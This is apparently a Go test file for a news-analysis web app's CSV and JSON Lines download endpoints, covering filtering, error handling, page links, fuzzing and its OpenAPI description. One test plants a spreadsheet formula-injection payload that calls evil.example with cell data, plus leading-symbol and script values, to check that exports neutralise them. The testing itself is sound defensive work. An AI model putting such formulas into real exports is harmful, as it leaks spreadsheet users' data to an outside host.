package web_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"html"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/newsgraph/newsgraph"
	"github.com/newsgraph/newsgraph/internal/export"
	"github.com/newsgraph/newsgraph/sqlite"
	"github.com/newsgraph/newsgraph/web"
)

// listTotal is the total the API's paged list gives for path.
func listTotal(t *testing.T, srv *httptest.Server, path string) int {
	t.Helper()
	code, body, _ := get(t, srv, path)
	var page struct{ Total int }
	if err := json.Unmarshal([]byte(body), &page); err != nil || code != 200 {
		t.Fatalf("GET %s: %d %s", path, code, body)
	}
	return page.Total
}

// downloadCSV fetches a CSV download, checks its headers and header row,
// and returns its rows as maps by column.
func downloadCSV(t *testing.T, srv *httptest.Server, path string, columns []string, file string) []map[string]string {
	t.Helper()
	code, body, h := get(t, srv, path)
	if code != 200 || h.Get("Content-Type") != "text/csv; charset=utf-8" ||
		h.Get("Content-Disposition") != `attachment; filename="`+file+`"` {
		t.Fatalf("GET %s: %d, %q, %q: %.200s", path, code, h.Get("Content-Type"), h.Get("Content-Disposition"), body)
	}
	header, rows, err := export.ReadCSV(strings.NewReader(body))
	if err != nil || !slices.Equal(header, columns) {
		t.Fatalf("GET %s: header %q, %v", path, header, err)
	}
	return rows
}

// downloadJSONL fetches a JSON Lines download and returns its lines,
// each checked to be one JSON object.
func downloadJSONL(t *testing.T, srv *httptest.Server, path string) []map[string]any {
	t.Helper()
	code, body, h := get(t, srv, path)
	if code != 200 || h.Get("Content-Type") != "application/x-ndjson" || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment; ") {
		t.Fatalf("GET %s: %d, %q: %.200s", path, code, h.Get("Content-Type"), body)
	}
	var out []map[string]any
	for _, line := range strings.Split(strings.TrimSuffix(body, "\n"), "\n") {
		if line == "" {
			continue
		}
		var v map[string]any
		if err := json.Unmarshal([]byte(line), &v); err != nil {
			t.Fatalf("GET %s: %v: %s", path, err, line)
		}
		out = append(out, v)
	}
	return out
}

// Each list's download holds its whole filtered list, past any page (the
// unfiltered lists are longer than one), in both formats, whatever page
// the request names; a filtered one holds only what the filter selects.
func TestDownloadsAreWholeLists(t *testing.T) {
	srv := listServer(t)
	for _, c := range []struct {
		list, query string
		table       []string
		file        string
		check       func(map[string]string) bool
	}{
		{"/api/quotes", "", export.Quotes.Columns, "quotes", nil},
		{"/api/quotes", "speaker=quill&from=2026-01-05", export.Quotes.Columns, "quotes",
			func(r map[string]string) bool {
				// An undated article's quotes are dated by when they were
				// stored (today), which is after the bound too.
				return strings.HasPrefix(r["speaker"], "Ann Quill") && (r["date"] == "" || r["date"] >= "2026-01-05")
			}},
		{"/api/articles", "site=Herald", export.Articles.Columns, "articles", func(r map[string]string) bool { return r["outlet"] == "Herald" }},
		{"/api/search", "q=cranes&to=2026-01-30", export.Articles.Columns, "articles",
			func(r map[string]string) bool {
				return strings.HasPrefix(r["title"], "Harbour report") && r["date"] <= "2026-01-30"
			}},
		{"/api/events", "type=assault", export.Events.Columns, "events", func(r map[string]string) bool { return r["type"] == "ASSAULT" }},
		{"/api/events", "", export.Events.Columns, "events", nil},
	} {
		path := c.list + "?" + c.query
		total := listTotal(t, srv, path+"&limit=1")
		if total == 0 || (c.check == nil && total <= web.DefaultLimit) {
			t.Fatalf("%s: %d items; an unfiltered list must be longer than a page", path, total)
		}
		rows := downloadCSV(t, srv, path+"&format=csv&limit=5&offset=3", c.table, "newsgraph-"+c.file+".csv")
		lines := downloadJSONL(t, srv, path+"&format=jsonl")
		if len(rows) != total || len(lines) != total {
			t.Errorf("%s: %d rows, %d lines; the list has %d", path, len(rows), len(lines), total)
			continue
		}
		for i, r := range rows {
			if c.check != nil && !c.check(r) {
				t.Errorf("%s: row %v is not in the list", path, r)
			}
			if id := strconv.FormatFloat(lines[i]["id"].(float64), 'f', -1, 64); r["id"] != id {
				t.Errorf("%s: row %d is %s in the CSV, %s in the JSON Lines", path, i, r["id"], id)
			}
		}
	}
}

// A story's quotes and articles download whole, as the lists with
// story= hold them.
func TestStoryDownloads(t *testing.T) {
	srv := listServer(t)
	var stories struct{ Stories []newsgraph.StoryRecord }
	_, body, _ := get(t, srv, "/api/stories?limit=100")
	if err := json.Unmarshal([]byte(body), &stories); err != nil || len(stories.Stories) == 0 {
		t.Fatalf("stories: %v %.200s", err, body)
	}
	story := stories.Stories[0]
	for _, list := range []string{"/api/quotes", "/api/articles"} {
		path := list + "?story=" + strconv.FormatInt(story.ID, 10)
		total := listTotal(t, srv, path+"&limit=1")
		unfiltered := listTotal(t, srv, list+"?limit=1")
		lines := downloadJSONL(t, srv, path+"&format=jsonl")
		if total == 0 || total >= unfiltered || len(lines) != total {
			t.Errorf("%s: %d lines, the list has %d of %d", path, len(lines), total, unfiltered)
		}
	}
}

// A download that is refused is an API error, not an attachment; an
// empty list is still a file.
func TestDownloadRefusalsAndEmptyLists(t *testing.T) {
	srv := newServer(t)
	for _, path := range []string{
		"/api/quotes?format=xlsx",
		"/api/quotes?format=csv&type=rumour",
		"/api/quotes?format=jsonl&min_confidence=2",
		"/api/events?format=csv&from=2026-05-01&to=2026-04-01",
		"/api/search?format=csv",
		"/api/articles?format=jsonl&actor=x",
	} {
		code, body, h := get(t, srv, path)
		if code != 400 || h.Get("Content-Disposition") != "" || !strings.Contains(body, `"error"`) {
			t.Errorf("GET %s: %d %q %s", path, code, h.Get("Content-Disposition"), body)
		}
	}
	if rows := downloadCSV(t, srv, "/api/quotes?speaker=nobody&format=csv", export.Quotes.Columns, "newsgraph-quotes.csv"); len(rows) != 0 {
		t.Errorf("an empty list gave %d rows", len(rows))
	}
	if lines := downloadJSONL(t, srv, "/api/articles?site=Nowhere&format=jsonl"); len(lines) != 0 {
		t.Errorf("an empty list gave %d lines", len(lines))
	}
}

// Hostile text stays text: a formula gets its leading quote in the CSV,
// and markup is escaped in the JSON Lines.
func TestDownloadsDisarmHostileText(t *testing.T) {
	s, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "h.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	formula := `=HYPERLINK("https://evil.example/?"&A1,"open")`
	putQuoted(t, s, "h1", "@Outlet", "+Title", "Eve Mallory", formula, time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC))
	putQuoted(t, s, "h2", "-Outlet", hostile, "Eve Mallory", hostile, time.Date(2026, 3, 3, 0, 0, 0, 0, time.UTC))
	h, err := web.New(s, nil)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	rows := downloadCSV(t, srv, "/api/quotes?format=csv", export.Quotes.Columns, "newsgraph-quotes.csv")
	if len(rows) != 2 || rows[0]["outlet"] != "'@Outlet" || rows[0]["article_title"] != "'+Title" || rows[1]["outlet"] != "'-Outlet" ||
		rows[0]["content"] != "“"+formula+"”" || rows[1]["article_title"] != hostile {
		t.Errorf("rows %v", rows)
	}
	_, body, _ := get(t, srv, "/api/quotes?format=jsonl")
	lines := downloadJSONL(t, srv, "/api/quotes?format=jsonl")
	if strings.Contains(body, "<script>") || len(lines) != 2 || lines[1]["content"].(map[string]any)["text"] != "“"+hostile+"”" {
		t.Errorf("JSON Lines %s", body)
	}
}

// downloadLink finds a page's download link of a format and follows
// nothing: it returns the href, unescaped.
var downloadHref = regexp.MustCompile(`<a href="([^"]+format=csv[^"]*)" download>CSV</a>`)

// Every list page links to the download of what it shows: its filters
// kept, its page left out, and the download holds the page's total.
func TestListPagesLinkToDownloads(t *testing.T) {
	srv := listServer(t)
	quill := listTotal(t, srv, "/api/quotes?speaker=Quill07&limit=1")
	if quill != 1 {
		t.Fatalf("Ann Quill07 has %d quotes", quill)
	}
	var entity int64
	{
		var list struct{ Quotes []newsgraph.QuoteRecord }
		_, body, _ := get(t, srv, "/api/quotes?speaker=Quill07")
		if err := json.Unmarshal([]byte(body), &list); err != nil || len(list.Quotes) != 1 {
			t.Fatalf("%v %s", err, body)
		}
		entity = list.Quotes[0].Speaker.EntityID
	}
	for _, c := range []struct {
		page, api string
		nth       int // which of the page's download links
	}{
		{"/?site=Gazette&offset=20&sort=oldest", "/api/articles?site=Gazette", 0},
		{"/search?q=cranes&site=Herald&quotes_offset=20", "/api/search?q=cranes&site=Herald", 0},
		{"/search?q=cranes&site=Herald&quotes_offset=20&min_confidence=0.5", "/api/quotes?q=cranes&site=Herald&min_confidence=0.5", 1},
		{"/quotes?site=Gazette&offset=20", "/api/quotes?site=Gazette", 0},
		{"/events?type=assault&offset=20", "/api/events?type=assault", 0},
		{"/speakers/" + strconv.FormatInt(entity, 10), "/api/quotes?entity=" + strconv.FormatInt(entity, 10), 0},
	} {
		_, body, _ := get(t, srv, c.page)
		links := downloadHref.FindAllStringSubmatch(body, -1)
		if len(links) <= c.nth {
			t.Errorf("%s: %d download links", c.page, len(links))
			continue
		}
		href := html.UnescapeString(links[c.nth][1])
		if strings.Contains(href, "offset") || strings.Contains(href, "sort=") {
			t.Errorf("%s links to %s, with its page or order", c.page, href)
		}
		total := listTotal(t, srv, c.api+"&limit=1")
		code, got, h := get(t, srv, href)
		rows, err := csv.NewReader(strings.NewReader(got)).ReadAll()
		if code != 200 || h.Get("Content-Type") != "text/csv; charset=utf-8" || err != nil || len(rows)-1 != total || total == 0 {
			t.Errorf("%s links to %s: %d, %d rows, %v; the list has %d", c.page, href, code, len(rows)-1, err, total)
		}
	}
}

// Whatever format and filter a download is given, it answers an
// attachment or a 400 with the API's error, never a server error.
func FuzzDownloadQuery(f *testing.F) {
	h, err := web.New(seed(f), nil)
	if err != nil {
		f.Fatal(err)
	}
	f.Add("csv", "site", "\x00")
	f.Add("jsonl", "q", "summit")
	f.Add("CSV", "from", "2026-13-01")
	f.Add("", "speaker", "x")
	f.Add("\xff", "limit", "-1")
	f.Add("csv", "place", "%_")
	f.Fuzz(func(t *testing.T, format, name, value string) {
		query := url.Values{"format": {format}, name: {value}}.Encode()
		for _, list := range []string{"/api/quotes", "/api/articles", "/api/search", "/api/events"} {
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, httptest.NewRequest("GET", list+"?"+query, nil))
			attached := strings.HasPrefix(rec.Header().Get("Content-Disposition"), "attachment")
			if !(rec.Code == 200 && attached) && !(rec.Code == 400 && !attached) {
				t.Errorf("%s?%s: %d %q %.200s", list, query, rec.Code, rec.Header().Get("Content-Disposition"), rec.Body)
			}
		}
	})
}

// The OpenAPI document names the format parameter of every list that
// downloads, and the media types a download answers with.
func TestOpenAPIDescribesDownloads(t *testing.T) {
	srv := newServer(t)
	_, body, _ := get(t, srv, "/openapi.json")
	var doc struct {
		Paths map[string]struct {
			Get struct {
				Parameters []struct {
					Name string
					Ref  string `json:"$ref"`
				}
				Responses map[string]struct{ Content map[string]any }
			}
		}
		Components struct {
			Parameters map[string]struct {
				Name   string
				Schema struct{ Enum []string }
			}
		}
	}
	if err := json.Unmarshal([]byte(body), &doc); err != nil {
		t.Fatal(err)
	}
	if p := doc.Components.Parameters["format"]; p.Name != "format" || !slices.Equal(p.Schema.Enum, []string{"csv", "jsonl"}) {
		t.Errorf("components.parameters.format: %+v", p)
	}
	for _, path := range []string{"/api/quotes", "/api/articles", "/api/search", "/api/events"} {
		get := doc.Paths[path].Get
		if !slices.ContainsFunc(get.Parameters, func(p struct {
			Name string
			Ref  string `json:"$ref"`
		}) bool {
			return p.Ref == "#/components/parameters/format"
		}) {
			t.Errorf("%s has no format parameter", path)
		}
		for _, media := range []string{"application/json", "text/csv", "application/x-ndjson"} {
			if _, ok := get.Responses["200"].Content[media]; !ok {
				t.Errorf("%s: no %s answer", path, media)
			}
		}
	}
}
